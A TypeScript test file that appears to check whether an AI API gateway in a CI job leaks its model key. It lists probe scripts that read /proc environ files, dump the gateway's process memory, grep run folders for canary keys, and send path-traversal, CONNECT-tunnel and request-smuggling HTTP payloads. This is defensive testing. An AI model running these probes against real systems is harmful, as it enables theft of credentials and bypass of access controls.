import type { Reading } from './case.ts';
import { dumpMemory } from './read.ts';

/** Asks the gateway, and prints all that comes back: status, headers, body. */
const ask = (
  path: string,
  options: { messages?: string; stream?: boolean; method?: string } = {},
): string => {
  const { messages = 'hello', stream = false, method = 'POST' } = options;
  const body = JSON.stringify({ model: 'echo', stream, messages: [{ role: 'user', content: messages }] });
  return `node -e '
const headers = { "content-type": "application/json", authorization: "Bearer " + process.env.OPENAI_API_KEY };
const url = process.env.OPENAI_BASE_URL + "${path}";
fetch(url, { method: "${method}", headers, ${method === 'GET' ? '' : `body: ${JSON.stringify(body)},`} redirect: "manual" })
  .then(async (got) => console.log(got.status, [...got.headers].join("\\n"), await got.text()))
  .catch((error) => console.log("refused", error.message));'`;
};

/** Words of one's own on the wire, for what no client would say. */
const say = (lines: string): string => `node -e '
const { port, host } = new URL(process.env.OPENAI_BASE_URL);
const socket = require("net").connect(port, "127.0.0.1", () => socket.write(${JSON.stringify(lines)}
  .replaceAll("HOST", host).replaceAll("KEY", process.env.OPENAI_API_KEY).replaceAll("BOX", new URL(process.env.BOX).host)));
socket.on("data", (bytes) => process.stdout.write(bytes)).on("error", () => {});
setTimeout(() => socket.destroy(), 1500);'`;

const post = 'POST /v1/chat/completions HTTP/1.1\r\nHost: HOST\r\nAuthorization: Bearer KEY\r\n';

/** The folders of this run and of its runner, never the whole machine. */
const everywhere =
  '"$HOME" "$PWD" "$TMPDIR" "$RUN_FOLDER" "$RUNNER_TMP" "$TOOLS" "$ACTION_FOLDER" "$WORKSPACE"';

/** Scripts that are after the key of the model. Each runs in job `agent` alone: no other job has a gateway. */
export const wanting: readonly Reading[] = [
  // First: what starts the scripts keeps in memory what they found.
  {
    name: 'memory-of-its-own-processes',
    script: `for p in $$ $PPID; do ${dumpMemory} "$p"; done`,
    finds: [],
  },
  { name: 'its-own-environment', script: 'env; tr "\\0" "\\n" </proc/self/environ', finds: [] },
  { name: 'environment-of-the-gateway', script: 'cat "/proc/$ACTION/environ"', finds: ['model-key'] },
  {
    name: 'memory-of-the-gateway',
    script: `${dumpMemory} "$ACTION"`,
    finds: ['model-key'],
    needs: 'root',
  },
  { name: 'files', script: `grep -rasoh 'canary\\.model-key\\.[0-9a-f]*' ${everywhere}`, finds: [] },
  { name: 'model-that-echoes', script: ask('/chat/completions'), finds: [] },
  { name: 'model-that-echoes-as-a-stream', script: ask('/chat/completions', { stream: true }), finds: [] },
  { name: 'model-that-refuses', script: ask('/chat/completions', { messages: 'refuse me' }), finds: [] },
  { name: 'another-path', script: ask('/files', { method: 'GET' }), finds: [] },
  { name: 'a-path-that-climbs', script: ask('/../../debug/vars', { method: 'GET' }), finds: [] },
  {
    name: 'another-method',
    script: say('TRACE / HTTP/1.1\r\nHost: HOST\r\nAuthorization: Bearer KEY\r\n\r\n'),
    finds: [],
  },
  {
    name: 'another-host',
    script: say('GET http://BOX/ HTTP/1.1\r\nHost: BOX\r\nAuthorization: Bearer KEY\r\n\r\n'),
    finds: [],
  },
  {
    name: 'a-tunnel',
    script: say('CONNECT BOX HTTP/1.1\r\nHost: BOX\r\nAuthorization: Bearer KEY\r\n\r\n'),
    finds: [],
  },
  {
    name: 'an-upgrade',
    script: say(`${post}Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 2\r\n\r\n{}`),
    finds: [],
  },
  {
    name: 'two-requests-in-one',
    script: say(
      `${post}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: HOST\r\n\r\n`,
    ),
    finds: [],
  },
  {
    name: 'broken-words',
    script: say(`${post}Content-Length: 9\r\n\r\n{"model":`),
    finds: [],
  },
  {
    name: 'without-its-token',
    script: ask('/chat/completions').replace('process.env.OPENAI_API_KEY', '"guess"'),
    finds: [],
  },
];
